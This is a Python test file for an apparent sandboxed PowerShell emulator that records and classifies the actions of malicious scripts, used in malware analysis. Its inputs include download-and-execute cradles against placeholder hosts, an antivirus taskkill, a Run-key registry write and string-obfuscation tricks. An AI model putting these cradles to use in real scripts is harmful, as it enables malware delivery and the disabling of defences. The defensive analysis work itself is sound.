import socket

import pytest

from pspeel.model import ActionKind, EnvUsage
from pspeel.sandbox import (
    UNRESOLVED,
    EmulationBudgetError,
    FetchPolicy,
    RemoteContent,
    emulate,
)


def kinds(result):
    return [a.kind for a in result.actions]


class PanickingClient:
    """Fails the test if the emulator ever touches the network."""

    def fetch(self, url):
        raise AssertionError(f"network fetch attempted: {url}")


class CannedClient:
    def __init__(self, body=b"Start-Process 'dropped.exe'"):
        self.body = body
        self.calls = []

    def fetch(self, url):
        self.calls.append(url)
        return self.body


# ------------------------------------------------------------ basic actions


def test_download_and_start_sequence() -> None:
    script = ("(New-Object System.Net.WebClient).DownloadFile("
              "'http://203.0.113.9/~zebra/iesecv.exe', \"$env:APPDATA\\scvkem.exe\"); "
              "Start-Process (\"$env:APPDATA\\scvkem.exe\")")
    result = emulate(script)
    assert kinds(result) == [ActionKind.DOWNLOAD, ActionKind.VAR_MANIP,
                             ActionKind.PROC_START]
    assert result.actions[0].detail == "http://203.0.113.9/~zebra/iesecv.exe"
    assert result.actions[1].detail == "APPDATA"
    assert result.actions[2].detail == "scvkem.exe"
    assert result.env_usages == [("APPDATA", EnvUsage.PATH_BUILD),
                                 ("APPDATA", EnvUsage.PROCESS_ARG)]
    assert result.dropped_files == ["%APPDATA%\\scvkem.exe"]


def test_download_string_as_iex_argument() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b.ps1')"
    result = emulate(script)
    assert kinds(result) == [ActionKind.DOWNLOAD, ActionKind.MEM_LOAD]
    (ev,) = result.evals
    assert ev.resolved is None  # nothing fetched under record-only
    assert "DownloadString" in ev.argument_text


def test_invoke_webrequest_records_download() -> None:
    result = emulate("Invoke-WebRequest -Uri 'http://x.example/a.bin'")
    assert kinds(result) == [ActionKind.DOWNLOAD]
    assert result.actions[0].detail == "http://x.example/a.bin"


def test_invoke_restmethod_records_download() -> None:
    result = emulate("Invoke-RestMethod 'http://api.example/v1'")
    assert kinds(result) == [ActionKind.DOWNLOAD]


def test_start_process_basename_detail() -> None:
    result = emulate("Start-Process 'C:\\Users\\Public\\malware.exe'")
    assert kinds(result) == [ActionKind.PROC_START]
    assert result.actions[0].detail == "malware.exe"


def test_shell_exec() -> None:
    result = emulate("cmd /c del /q C:\\temp\\log.txt")
    assert kinds(result) == [ActionKind.SHELL_EXEC]
    assert result.actions[0].detail.startswith("/c del")


def test_proc_kill_variants() -> None:
    result = emulate("Stop-Process -Name 'explorer'")
    assert kinds(result) == [ActionKind.PROC_KILL]
    assert result.actions[0].detail == "explorer"
    result = emulate("taskkill /IM antivirus.exe /F")
    assert kinds(result) == [ActionKind.PROC_KILL]


def test_mem_load_statement_net() -> None:
    result = emulate("[Reflection.Assembly]::Load($bytes)")
    assert ActionKind.MEM_LOAD in kinds(result)


def test_env_write_is_var_manip() -> None:
    result = emulate("$env:UserAgent = 'curl/7.1'")
    assert kinds(result) == [ActionKind.VAR_MANIP]
    assert result.actions[0].detail == "USERAGENT=curl/7.1"


def test_registry_write_is_var_manip() -> None:
    result = emulate("Set-ItemProperty -Path 'HKCU:\\Software\\Run' -Name x -Value y")
    assert kinds(result) == [ActionKind.VAR_MANIP]
    assert result.actions[0].detail == "registry"


def test_unknown_command_warns_and_continues() -> None:
    result = emulate("Frobnicate-Widget 'x'; Start-Process 'calc.exe'")
    assert kinds(result) == [ActionKind.PROC_START]
    assert any("frobnicate-widget" in w for w in result.warnings)


def test_benign_commands_are_silent() -> None:
    result = emulate("Write-Output 'hello'; echo hi; exit")
    assert result.actions == [] and result.warnings == []


# ------------------------------------------------------- expression engine


def run_iex(expr: str):
    result = emulate(f"IEX ({expr})")
    (ev,) = result.evals
    return ev.resolved


def test_eval_concat_chain() -> None:
    assert run_iex("'Start-' + 'Proc' + 'ess'") == "Start-Process"


def test_eval_format_operator() -> None:
    assert run_iex("'{1}{0}' -f 'Object','New-'") == "New-Object"


def test_eval_join_and_index() -> None:
    assert run_iex("('mal','ware') -join ''") == "malware"
    assert run_iex("'malware.exe'[3,1,2] -join ''") == "wal"


def test_eval_unary_join() -> None:
    assert run_iex("-join ('a','b','c')") == "abc"


def test_eval_char_cast() -> None:
    assert run_iex("[char]88 + [char]89") == "XY"


def test_eval_tostring_and_replace() -> None:
    assert run_iex("'hXXp'.Replace('X','t').ToString()") == "http"


def test_eval_variable_chain() -> None:
    result = emulate("$a = 'cal'; $b = $a + 'c.exe'; IEX ($b)")
    (ev,) = result.evals
    assert ev.resolved == "calc.exe"


def test_eval_env_read_is_placeholder() -> None:
    result = emulate("$p = $env:TEMP + '\\x.exe'; IEX ($p)")
    (ev,) = result.evals
    assert ev.resolved == "%TEMP%\\x.exe"
    assert ("TEMP", EnvUsage.PATH_BUILD) in result.env_usages
    assert any(a.kind is ActionKind.VAR_MANIP for a in result.actions)


def test_unresolvable_eval_is_recorded_unresolved() -> None:
    result = emulate("IEX $mystery")
    (ev,) = result.evals
    assert ev.resolved is None
    assert ev.argument_text == "$mystery"


def test_piped_iex() -> None:
    result = emulate("$p = 'Start-Process'; $p | IEX")
    (ev,) = result.evals
    assert ev.resolved == "Start-Process"


# ---------------------------------------------------------- fetch policies


def test_record_only_never_touches_client() -> None:
    script = ("IEX (New-Object Net.WebClient).DownloadString('http://a/b'); "
              "Invoke-WebRequest 'http://c/d'")
    result = emulate(script, policy=FetchPolicy.RECORD_ONLY,
                     client=PanickingClient())
    assert kinds(result).count(ActionKind.DOWNLOAD) == 2


def test_fetch_via_client_resolves_remote_iex() -> None:
    client = CannedClient(b"Start-Process 'dropped.exe'")
    script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/s.ps1')"
    result = emulate(script, policy=FetchPolicy.FETCH_VIA_CLIENT, client=client)
    assert client.calls == ["http://a.example/s.ps1"]
    (ev,) = result.evals
    assert ev.resolved == "Start-Process 'dropped.exe'"


def test_fetch_failure_is_a_warning() -> None:
    class FailingClient:
        def fetch(self, url):
            raise OSError("connection refused")

    script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/s.ps1')"
    result = emulate(script, policy=FetchPolicy.FETCH_VIA_CLIENT,
                     client=FailingClient())
    assert any("fetch failed" in w for w in result.warnings)
    (ev,) = result.evals
    assert ev.resolved is None


def test_download_file_fetch_stores_payload() -> None:
    client = CannedClient(b"MZ\x90binary")
    script = ("(New-Object Net.WebClient).DownloadFile("
              "'http://a.example/x.exe', 'C:\\tmp\\x.exe')")
    result = emulate(script, policy=FetchPolicy.FETCH_VIA_CLIENT, client=client)
    assert result.fetched_payloads == [("http://a.example/x.exe", b"MZ\x90binary")]
    assert result.dropped_files == ["C:\\tmp\\x.exe"]


def test_no_socket_activity_during_emulation(monkeypatch) -> None:
    def boom(*args, **kwargs):
        raise AssertionError("socket touched")

    monkeypatch.setattr(socket, "socket", boom)
    monkeypatch.setattr(socket, "create_connection", boom)
    script = ("(New-Object Net.WebClient).DownloadFile('http://a/b.exe', "
              "'C:\\x\\b.exe'); Start-Process 'C:\\x\\b.exe'; "
              "cmd /c whoami; Stop-Process -Name av")
    result = emulate(script)
    assert len(result.actions) == 4  # download, start, shell, kill


# ----------------------------------------------------------------- budget


def test_step_budget_enforced() -> None:
    body = "; ".join(f"$v{i} = 'x'" for i in range(6000))
    with pytest.raises(EmulationBudgetError):
        emulate(body)


def test_remote_content_value_shape() -> None:
    rc = RemoteContent("http://a/b", None)
    assert rc.url == "http://a/b" and rc.text is None
    assert UNRESOLVED is not None
